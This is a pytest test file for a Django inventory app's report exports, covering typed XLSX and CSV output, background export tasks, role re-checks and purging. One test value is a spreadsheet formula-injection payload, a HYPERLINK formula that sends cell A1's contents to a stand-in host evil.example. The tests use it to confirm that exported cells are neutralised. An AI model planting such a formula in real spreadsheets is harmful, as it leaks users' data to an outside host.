"""Report files: an XLSX read back with openpyxl has a sheet per section, typed cells (numbers
as numbers, dates as dates), the Rupiah number format, a frozen bold header and formula-looking
names as text; a CSV likewise (UTF-8 with a BOM). Background exports run through the task,
count their progress, refuse what a file cannot hold, re-check who asks, and are purged."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any

import openpyxl
import pytest
from django.utils import timezone

from roles_support import an_integration, user_with_role
from sales_support import LinePlan, place
from satustok.catalog.models import MasterProduct, Variant
from satustok.core.access import Role
from satustok.core.models import Membership
from satustok.inventory import stock
from satustok.inventory.models import MovementReason
from satustok.reports import catalogue, export_tasks, exports, filters
from satustok.reports.models import ExportState, ReportExport

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
RUPIAH_FORMAT = '"Rp "#,##0'
RANGE = {"start": "2026-11-25", "end": "2026-12-05"}


@pytest.fixture
def data() -> dict[str, Any]:
    shop = an_integration(shop_name="Toko Satu")
    evil = MasterProduct.objects.create(name=EVIL)
    plain = MasterProduct.objects.create(name="Kaos Polos")
    bad = Variant.objects.create(product=evil, sku="+EVIL-1", price=12_500, cost=7_000)
    good = Variant.objects.create(product=plain, sku="KAOS-M", price=50_000)
    ordered = datetime(2026, 12, 1, 3, tzinfo=UTC)  # 10:00 WIB
    place(shop, ordered, [LinePlan(2, 12_500, bad), LinePlan(1, 50_000, good)])
    stock.move(shop.warehouse.pk, bad.pk, on_hand=8, reason=MovementReason.ADJUSTMENT)
    stock.move(shop.warehouse.pk, good.pk, on_hand=3, reason=MovementReason.ADJUSTMENT)
    return {"shop": shop, "bad": bad, "good": good}


def build(name: str, **query: str) -> tuple[catalogue.Report, filters.Filters, Any]:
    report = catalogue.REPORTS[name]
    chosen = filters.parse(query, report.fields)
    return report, chosen, report.build(chosen)


def workbook(content: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(content))


def test_xlsx_has_a_typed_sheet_per_section(data: dict[str, Any]) -> None:
    report, chosen, result = build("stock-value")
    made = exports.immediate_file(report, chosen, result, "xlsx")
    assert made.name == f"satustok-stock-value-{filters.today().isoformat()}.xlsx"
    book = workbook(made.content)
    assert book.sheetnames == [section.title for section in result.sections]
    detail = book[result.sections[1].title]
    assert detail.freeze_panes == "A2"
    assert all(cell.font.bold for cell in detail[1])
    header = [cell.value for cell in detail[1]]
    assert header[1] == "SKU"
    rows = {row[1].value: row for row in detail.iter_rows(min_row=2) if row[1].value}
    bad = rows["'+EVIL-1"]  # a SKU starting with + is text, not a formula
    assert bad[2].value == "'" + EVIL and bad[2].data_type == "s"
    on_hand, value_at_cost = bad[4], bad[9]
    assert on_hand.value == 8 and isinstance(on_hand.value, int) and on_hand.data_type == "n"
    assert value_at_cost.value == 56_000 and value_at_cost.number_format == RUPIAH_FORMAT
    assert rows["KAOS-M"][7].value is None  # no cost: an empty cell, not a zero
    last = list(detail.iter_rows(values_only=True))[-1]
    assert last[0] == result.sections[1].totals[0] and last[9] == 56_000 and last[10] == 250_000
    summary = book[result.sections[0].title]
    assert summary.freeze_panes == "A2"
    assert [cell.value for cell in summary[2]][1:3] == [2, 11]


def test_xlsx_dates_are_dates_and_times_are_wib(data: dict[str, Any]) -> None:
    report, chosen, result = build("sales-over-time", **RANGE)
    made = exports.immediate_file(report, chosen, result, "xlsx")
    assert made.name == "satustok-sales-over-time-2026-11-25-2026-12-05.xlsx"
    periods = workbook(made.content)[result.sections[0].title]
    first = periods["A2"]
    assert first.value == datetime(2026, 11, 25) and first.number_format == "yyyy-mm-dd"
    day = next(row for row in periods.iter_rows(min_row=2) if row[0].value == datetime(2026, 12, 1))
    assert [cell.value for cell in day[1:]] == [1, 3, 75_000]
    assert day[3].number_format == RUPIAH_FORMAT
    _report, _chosen, ledger = build("stock-ledger")
    book = workbook(exports.write(ledger, "xlsx"))
    when = book.active["A2"]
    newest = ledger.sections[0].rows[0][0]
    assert when.value == timezone.localtime(newest).replace(
        tzinfo=None, microsecond=when.value.microsecond
    )
    assert when.number_format == "yyyy-mm-dd hh:mm"


def test_csv_is_one_section_utf8_with_bom_and_neutralised(data: dict[str, Any]) -> None:
    report, chosen, result = build("sales-by-sku", **RANGE)
    made = exports.immediate_file(report, chosen, result, "csv")
    assert made.name == "satustok-sales-by-sku-skus-2026-11-25-2026-12-05.csv"
    assert made.content.startswith(b"\xef\xbb\xbf")
    assert made.content_type.startswith("text/csv")
    rows = list(csv.reader(io.StringIO(made.content.decode("utf-8-sig"))))
    assert rows[0][0] == "SKU"
    by_sku = {row[0]: row for row in rows[1:-1]}
    assert by_sku["'+EVIL-1"][1:] == ["'" + EVIL, "", "1", "2", "25000"]
    assert by_sku["KAOS-M"][3:] == ["1", "1", "50000"]
    assert rows[-1][4:] == ["3", "75000"]  # the totals line


def test_csv_of_a_chosen_section(data: dict[str, Any]) -> None:
    report, chosen, result = build("stock-value")
    made = exports.immediate_file(report, chosen, result, "csv", "warehouses")
    rows = list(csv.reader(io.StringIO(made.content.decode("utf-8-sig"))))
    assert len(rows) == 3  # header, the one warehouse, totals
    with pytest.raises(exports.ExportRefused):
        exports.immediate_file(report, chosen, result, "csv", "nope")


def test_a_background_export_through_its_task(
    data: dict[str, Any], monkeypatch: pytest.MonkeyPatch, django_capture_on_commit_callbacks: Any
) -> None:
    user = user_with_role(Role.ADMIN)
    for _ in range(30):
        stock.move(data["shop"].warehouse.pk, data["good"].pk, on_hand=1, reason="adjustment")
    report, chosen, result = build("stock-ledger")
    monkeypatch.setattr(exports, "IMMEDIATE_ROWS", 10)
    assert exports.is_long(result, "xlsx")
    with django_capture_on_commit_callbacks(execute=True):  # the queue runs tasks inline in tests
        export = exports.start(report, chosen, "xlsx", user)
    export.refresh_from_db()
    # The range is frozen as shown, whenever the worker gets to it.
    assert (export.params["start"], export.params["end"]) == (
        chosen.start.isoformat(),
        chosen.end.isoformat(),
    )
    assert export.state == ExportState.DONE and export.error == ""
    assert export.total == export.done == 32
    assert export.finished_at is not None
    sheet = workbook(exports.content_of(export)).active
    assert sheet.max_row == 1 + 32 + 1  # header, rows, totals
    assert sheet.cell(sheet.max_row, 6).value == 8 + 3 + 30
    export_tasks.run_export(export.pk)  # a second run of the task changes nothing
    again = ReportExport.objects.get(pk=export.pk)
    assert again.finished_at == export.finished_at


def test_progress_is_stored_while_writing(
    data: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 10)
    export = ReportExport.objects.create(report="stock-ledger", file_format="csv")
    progress = exports._Progress(export.pk)
    rows = progress.rows(iter([(n,) for n in range(25)]))
    for _ in range(20):
        next(rows)
    export.refresh_from_db()
    assert export.done == 10  # stored after the 10th row; the 20th is stored as the 21st is asked
    next(rows)
    export.refresh_from_db()
    assert export.done == 20


def test_too_many_rows_fail_in_words(data: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    user = user_with_role(Role.OWNER)
    monkeypatch.setattr(exports, "MAX_ROWS", 1)
    export = ReportExport.objects.create(report="stock-ledger", file_format="xlsx", created_by=user)
    done = exports.run(export.pk)
    assert done.state == ExportState.FAILED
    assert "2" in done.error and not done.content


def test_an_export_rechecks_the_role(data: dict[str, Any]) -> None:
    user = user_with_role(Role.ADMIN)
    export = ReportExport.objects.create(report="stock-value", file_format="xlsx", created_by=user)
    Membership.objects.filter(user=user).update(role=Role.STAFF)
    assert exports.run(export.pk).state == ExportState.FAILED
    orphan = ReportExport.objects.create(report="stock-value", file_format="xlsx")
    assert exports.run(orphan.pk).state == ExportState.FAILED


def test_old_and_surplus_exports_are_purged(db: Any) -> None:
    user = user_with_role(Role.OWNER)
    old = ReportExport.objects.create(report="stock-value", file_format="csv", created_by=user)
    ReportExport.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=8))
    kept = [
        ReportExport.objects.create(report="stock-value", file_format="csv", created_by=user)
        for _ in range(exports.KEEP_PER_USER + 2)
    ]
    someone_else = ReportExport.objects.create(
        report="stock-value", file_format="csv", created_by=user_with_role(Role.VIEWER)
    )
    assert exports.purge() == 1 + 2
    assert set(ReportExport.objects.values_list("pk", flat=True)) == {
        *(e.pk for e in kept[2:]),
        someone_else.pk,
    }


def test_the_sweep_requeues_lost_exports_and_fails_dead_ones(db: Any) -> None:
    user = user_with_role(Role.OWNER)
    lost = ReportExport.objects.create(report="stock-value", file_format="csv", created_by=user)
    dead = ReportExport.objects.create(
        report="stock-value", file_format="csv", created_by=user, state=ExportState.RUNNING
    )
    fresh = ReportExport.objects.create(report="stock-value", file_format="csv", created_by=user)
    long_ago = timezone.now() - timedelta(hours=2)
    ReportExport.objects.filter(pk__in=[lost.pk, dead.pk]).update(created_at=long_ago)
    assert exports.lost() == [lost.pk]
    dead.refresh_from_db()
    assert dead.state == ExportState.FAILED and dead.error
    assert export_tasks.sweep_exports.call_local() == [lost.pk]
    lost.refresh_from_db()
    fresh.refresh_from_db()
    assert lost.state == ExportState.DONE and fresh.state == ExportState.QUEUED


def test_file_names_carry_the_range(db: Any) -> None:
    report = catalogue.REPORTS["stock-ledger"]
    chosen = filters.parse({"start": "2026-01-01", "end": "2026-01-31"}, report.fields)
    assert (
        exports.file_name(report, chosen, "xlsx")
        == "satustok-stock-ledger-2026-01-01-2026-01-31.xlsx"
    )
    assert date(2026, 1, 1) == chosen.start


def test_starting_an_export_deletes_nothing_the_sweep_keeps_the_newest(
    data: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    """A download is a GET another site can make a browser send: it must not delete a seller's
    files. Only the periodic sweep keeps each seller to their newest ``KEEP_PER_USER``."""
    user = user_with_role(Role.OWNER)
    earlier = [
        ReportExport.objects.create(report="stock-value", file_format="csv", created_by=user)
        for _ in range(exports.KEEP_PER_USER)
    ]
    report, chosen, _result = build("stock-value")
    with django_capture_on_commit_callbacks(execute=False):
        newest = exports.start(report, chosen, "csv", user)
    assert ReportExport.objects.filter(created_by=user).count() == exports.KEEP_PER_USER + 1
    export_tasks.sweep_exports.call_local()
    left = set(ReportExport.objects.filter(created_by=user).values_list("pk", flat=True))
    assert left == {newest.pk, *(e.pk for e in earlier[1:])}


def test_an_export_fails_an_hour_after_it_started_not_after_it_was_queued(db: Any) -> None:
    user = user_with_role(Role.OWNER)
    queued_long = ReportExport.objects.create(
        report="stock-value", file_format="csv", created_by=user
    )
    ReportExport.objects.filter(pk=queued_long.pk).update(
        created_at=timezone.now() - timedelta(hours=3)
    )
    exports.run(queued_long.pk)  # a backed-up queue: its worker takes it only now
    started = ReportExport.objects.get(pk=queued_long.pk)
    assert started.started_at is not None and started.started_at > started.created_at
    ReportExport.objects.filter(pk=started.pk).update(state=ExportState.RUNNING)  # still writing
    exports.lost()
    assert ReportExport.objects.get(pk=started.pk).state == ExportState.RUNNING
    ReportExport.objects.filter(pk=started.pk).update(
        started_at=timezone.now() - exports.RUNNING_TOO_LONG - timedelta(minutes=1)
    )
    exports.lost()
    dead = ReportExport.objects.get(pk=started.pk)
    assert dead.state == ExportState.FAILED and dead.error
